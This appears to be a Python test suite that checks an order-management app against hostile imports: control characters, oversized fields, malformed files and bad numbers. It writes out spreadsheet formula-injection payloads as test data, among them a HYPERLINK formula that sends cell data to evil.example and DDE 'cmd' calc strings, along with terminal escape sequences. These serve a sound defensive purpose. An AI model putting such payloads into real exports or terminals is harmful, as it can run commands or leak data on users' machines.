"""A hostile-input corpus on both engines: formulas, control characters, huge and malformed
values, bombs. No traceback (a sentence, or a problem on its row), no formula in any
export, no control character kept, one bad row costing its own order only."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from oms_tui.models import Customer
from oms_tui.services.catalog.catalog import search_products
from oms_tui.services.exchange import import_files, order_export, order_import
from oms_tui.services.inventory import stock
from oms_tui.services.parties import customers
from oms_tui.services.platform.errors import InvalidInput
from oms_tui.services.platform.text import FORMULA_START, clean_text, safe_cell, shown
from oms_tui.services.sales import orders
from tests.factories import make_customer, make_product

HEADER = list(order_import.FIELDS)
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "=1+1"]  # fmt: skip


def _csv(rows, header=HEADER) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows([header, *rows])
    return buf.getvalue().encode("utf-8")


def _row(ext, name="李娜", qty="1", price="", when="2026-11-30 10:00", pay="prepaid",
         phone="139 1234 5678", notes="", product="LAMP-1"):  # fmt: skip
    return [ext, when, name, phone, "上海市 浦东新区 世纪大道 100 号", product, qty, price, notes,
            pay]  # fmt: skip


@pytest.fixture
def shop(db):
    return make_product(db, code="LAMP-1", price_minor=8_900)


def _names(db) -> set[str]:
    with db.read() as s:
        return set(s.exec(select(Customer.name)).all())


def _refusals(plan) -> dict[int, tuple[str, str, str]]:
    return {p.row: (p.column, p.value, p.reason) for p in plan.problems}


def test_control_characters_and_a_huge_name_cost_their_rows_only(db, shop):
    """Today a 10,000-character name aborted a PostgreSQL import of 3 good orders, and ESC
    or BEL in a name reached the terminal."""
    data = _csv([_row("OK1", phone="139 0000 0001"), _row("BIG", name="长" * 10_000),
                 _row("OK2", phone="139 0000 0002"), _row("ESC", name="\x1b[2J\x1b[31mred"),
                 _row("BEL", name="ding\x07"), _row("NUL", notes="a\x00b"),
                 _row("RLO", name="abc\u202etxt.exe"),
                 _row("OK3", phone="139 0000 0003")])  # fmt: skip
    result = order_import.run_import(db, "importer", data, "ecommerce")
    assert len(result.created) == 3 and not result.refused
    got = _refusals(result.plan)
    assert got[3] == ("customer_name", "长" * 79 + "…",
                      "the customer name is 10,000 characters long; the most is 200")  # fmt: skip
    esc = "the customer name holds a control character (U+001B): remove it"
    assert got[5] == ("customer_name", "\\x1b[2J\\x1b[31mred", esc)
    assert got[6][2] == "the customer name holds a control character (U+0007): remove it"
    assert got[7] == ("notes", "a\\x00b", "the notes holds a control character (U+0000): remove it")
    assert got[8][2] == "the customer name holds a control character (U+202E): remove it"
    assert _names(db) == {"李娜"}
    for p in result.problems:  # what the CLI prints and the error report holds
        assert not any(ch in p.value for ch in "\x00\x07\x1b\u202e")


def test_strict_parsing_refuses_with_the_reason(db, shop):
    rows = [_row("Q1", qty="1_000"), _row("Q2", qty="+5"), _row("Q3", qty="١٢"),
            _row("Q4", qty="1e9"), _row("P1", price="1_000"), _row("P2", price="+5"),
            _row("P3", price="١٢"), _row("P4", price="1e9"), _row("D1", when="1999-12-31"),
            _row("D2", when="2101-01-01"), _row("D3", when="２０２６-11-30"),
            _row("M1", pay="bitcoin"),
            _row("OK", qty="２", price="89.00", pay="货到付款")]  # fmt: skip
    plan = order_import.plan_import(db, _csv(rows), "ecommerce")
    got = _refusals(plan)
    qty = "quantity must be a whole number 1 to 100,000"
    assert [got[n][:2] for n in range(2, 14)] == [
        ("qty", "1_000"), ("qty", "+5"), ("qty", "١٢"), ("qty", "1e9"),
        ("unit_price", "1_000"), ("unit_price", "+5"), ("unit_price", "١٢"),
        ("unit_price", "1e9"), ("order_date", "1999-12-31"), ("order_date", "2101-01-01"),
        ("order_date", "２０２６-11-30"), ("payment_method", "bitcoin")]  # fmt: skip
    assert {got[n][2] for n in range(2, 6)} == {qty}
    assert got[6][2] == "'1_000' is not an amount (e.g. 12.50)"
    assert got[7][2] == "'+5' is not an amount: no sign, please"
    assert got[9][2] == "'1e9' is not an amount: write it in digits, e.g. 1000000000"
    assert got[10][2] == got[11][2] == "a date from 2000 to 2100, please"
    assert got[13][2].startswith("unknown payment method: one of cod, credit, installments, "
                                 "prepaid")  # fmt: skip
    [ok] = [o for o in plan.orders if o.action == "create"]
    assert (ok.external_id, ok.payment_method, ok.lines[0].qty) == ("OK", "cod", 2)
    assert ok.lines[0].unit_price_minor == 8_900


def test_formulas_are_text_in_every_export_and_import_again_as_typed(db, shop):
    data = _csv([_row(f"F{n}", name=name, phone=f"139 0000 00{n:02d}", notes=name)
                 for n, name in enumerate(FORMULAS)])  # fmt: skip
    result = order_import.run_import(db, "importer", data, "ecommerce")
    assert len(result.created) == len(FORMULAS), result.problems
    rows = order_export.export_rows(db, "importer")
    text = order_export.render(rows, "csv").decode("utf-8-sig")
    cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
    assert not [c for c in cells if c.startswith(FORMULA_START)
                and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", c)]  # fmt: skip
    assert "'=HYPERLINK(" in text and "'=cmd|" in text and "'@SUM(1)" in text
    book = load_workbook(io.BytesIO(order_export.render(rows, "xlsx")))
    values = [c for r in book.active.iter_rows() for c in r]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert not [c.value for c in values if isinstance(c.value, str)
                and c.value.startswith(FORMULA_START)]  # fmt: skip
    # an export imports as the same names (the apostrophe comes off again)
    for fmt in ("csv", "xlsx"):
        again = order_import.plan_import(db, order_export.render(rows, fmt), "ecommerce",
                                         filename=f"x.{fmt}")  # fmt: skip
        assert not again.problems
        assert {o.customer_name for o in again.orders} == set(FORMULAS)
        assert {o.action for o in again.orders} == {"unchanged"}
    report = order_import.problems_csv([order_import.Problem(2, "customer_name", FORMULAS[0],
                                                             "x")])  # fmt: skip
    assert "'=HYPERLINK" in report


def test_old_rows_with_control_characters_export_without_a_crash(db, shop):
    """xlsx export crashed with IllegalCharacterError on a control character."""
    c = make_customer(db, name="Wang", phone="138 0013 8000")
    orders.create_order(db, "clerk", c.id, [orders.NewLine(shop, 1)], submit=True)
    raw = db.engine.raw_connection()  # as written before any check: under SQLAlchemy's
    try:
        mark = "?" if db.dialect == "sqlite" else "%s"
        cursor = raw.cursor()
        cursor.execute(f"UPDATE sales_order SET ship_to_name = {mark}", ("Wang\x1b[31m\x07",))
        raw.commit()
    finally:
        raw.close()
    rows = order_export.export_rows(db, "importer")
    book = load_workbook(io.BytesIO(order_export.render(rows, "xlsx")))
    assert book.active["C2"].value == "Wang[31m"
    assert "\x1b" not in order_export.render(rows, "csv").decode("utf-8-sig")


def test_services_clean_or_refuse_text_on_every_engine(db, shop):
    with pytest.raises(InvalidInput, match=r"the name holds a control character \(U\+001B\)"):
        customers.create_customer(db, "clerk", customers.NewCustomer("\x1b]0;pwned\x07"))
    with pytest.raises(InvalidInput, match="the name is 10,000 characters long; the most is 200"):
        customers.create_customer(db, "clerk", customers.NewCustomer("x" * 10_000))
    hit = customers.create_customer(db, "clerk", customers.NewCustomer(
        "  Li\tNa\r\n ", phone="138 0013 8000", street="1 Main\nRoad"))  # fmt: skip
    assert hit.name == "Li Na"
    with pytest.raises(InvalidInput, match=r"the notes holds a control character \(U\+0000\)"):
        orders.create_order(db, "clerk", hit.id, [orders.NewLine(shop, 1)], notes="a\x00b")
    with pytest.raises(InvalidInput, match="the notes is 2,001 characters long"):
        orders.create_order(db, "clerk", hit.id, [orders.NewLine(shop, 1)],
                            notes="n" * 2_001)  # fmt: skip
    view = orders.create_order(db, "clerk", hit.id, [orders.NewLine(shop, 1)],
                               notes="call first\r\nthen ring")  # fmt: skip
    assert view.notes == "call first\nthen ring"


def test_percent_and_underscore_are_literal_in_product_search(db, shop):
    make_product(db, code="PCT-1", name="100% cotton cover")
    make_product(db, code="AB_C")
    assert [h.code for h in search_products(db, "%")] == ["PCT-1"]
    assert [h.code for h in search_products(db, "_")] == ["AB_C"]


def test_text_helpers():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-12.50") == "-12.50"
    assert safe_cell("\tx") == "'\tx" and safe_cell("a\x00b\x1bc") == "abc"
    assert safe_cell(5) == 5 and safe_cell("+86 138") == "'+86 138"
    assert shown("a\x1bb" + "x" * 100, 10) == "a\\x1bbxxx…"
    assert clean_text(" a\tb ", 5, "it") == "a b"


def test_file_limits_are_sentences(monkeypatch):
    def refusal(data: bytes, filename: str = "") -> str:
        with pytest.raises(InvalidInput) as caught:
            list(import_files.iter_rows(data, filename))
        return str(caught.value)

    assert refusal(b",".join([b"x"] * 201)) == "row 1 has 201 columns; the most is 200"
    monkeypatch.setattr(import_files, "MAX_ROWS", 3)
    assert refusal(b"h\n1\n2\n3\n4\n") == "the file has more than 3 rows: split it"
    monkeypatch.setattr(import_files, "MAX_LINE", 100)
    assert refusal(b"x" * 500) == "a line of the file is longer than 100 characters"
    assert refusal(b"\xff\xfe\xfa\xfb") == "the file is neither UTF-8 nor GB18030/GBK text"
    assert refusal(b"PK\x03\x04junk").startswith("not a readable .xlsx file")
    monkeypatch.setattr(import_files, "MAX_FILE_BYTES", 10)
    assert refusal(b"h\n" * 10) == "an import file may be 0 MB at most: split it"


def test_the_reorder_csv_neutralises_names():
    row = stock.ReorderRow(1, "=cmd|' /C calc'!A0", "@SUM(1)", "W1", 1, 0, 0, "0.50", 7, 0,
                           4, 0, -3)  # fmt: skip
    cells = next(iter(csv.reader(io.StringIO(stock.reorder_csv([row]).splitlines()[1]))))
    assert cells[:2] == ["'=cmd|' /C calc'!A0", "'@SUM(1)"] and cells[-1] == "-3"


def test_a_net_under_every_service_refuses_control_characters(db, shop):
    """Text a service does not clean itself (a payment's reference, a search) is refused as
    InvalidInput on both engines: PostgreSQL cannot store a NUL (a ValueError traceback
    before). A profile's name is cleaned by its service: a long one was a DataError on
    PostgreSQL that SQLite kept."""
    from datetime import date

    from oms_tui.services.finance import receivables

    c = make_customer(db, name="Wang", phone="138 0013 8000")
    with pytest.raises(InvalidInput, match=r"the reference holds a control character \(U\+0000\)"):
        receivables.record_payment(db, "finance", c.id, 100, date.today(), reference="a\x00b")
    with pytest.raises(InvalidInput, match="the name is 65 characters long; the most is 64"):
        order_import.save_profile(db, "me", "p" * 65, "ecommerce",
                                  {f: f for f in order_import.FIELDS})  # fmt: skip
    with pytest.raises(InvalidInput, match=r"the text searched for holds a control character"):
        search_products(db, "lamp\x1b")
    done = receivables.record_payment(db, "finance", c.id, 100, date.today(), reference="ok")
    assert done


def test_broken_xlsx_files_are_sentences():
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["external_id", "phone"])
    good = io.BytesIO()
    book.save(good)
    broken = io.BytesIO()
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(broken, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b"<row r='2'><c r='A2'><v>1</v></c>")
            dst.writestr(item, data)
    with pytest.raises(InvalidInput, match=r"^not a readable \.xlsx file \("):
        list(import_files.iter_rows(broken.getvalue(), "x.xlsx"))
